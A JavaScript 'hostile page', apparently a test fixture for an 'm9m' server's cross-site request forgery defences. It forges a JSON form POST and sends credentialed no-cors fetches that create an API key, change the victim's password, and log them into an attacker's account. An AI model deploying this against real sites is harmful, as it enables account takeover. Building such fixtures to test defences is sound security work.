// A hostile page: it tries to make the visitor's browser change state on
// the m9m server given by ?target=, with whatever the browser lets a page
// of another origin send. ?mode=form submits a form (a top-level
// navigation, which carries SameSite=Strict cookies when same-site);
// otherwise it sends no-cors fetches, which need no CORS permission.
const q = new URLSearchParams(location.search);
const target = q.get("target");

function formPost(path) {
  const f = document.createElement("form");
  f.method = "POST";
  f.action = target + path;
  f.enctype = "text/plain";
  const i = document.createElement("input");
  i.name = '{"x":"';
  i.value = '"}';
  f.append(i);
  document.body.append(f);
  f.submit();
}

async function fetches() {
  const opts = (body) => ({
    method: "POST",
    mode: "no-cors",
    credentials: "include",
    headers: { "Content-Type": "application/json" }, // dropped by no-cors: text/plain goes
    body,
  });
  const send = (path, body) => fetch(target + path, opts(body)).catch(() => undefined);
  await send("/api/v1/api-keys", '{"name":"csrf"}');
  await send("/api/v1/auth/password", '{"currentPassword":"guess","newPassword":"attacker-chosen-1"}');
  await send("/api/v1/auth/logout", "");
  await send("/api/v1/auth/login", '{"username":"attacker","password":"attacker-password","session":"cookie"}');
  document.title = "sent";
}

if (q.get("mode") === "form") formPost("/api/v1/auth/logout");
else fetches();
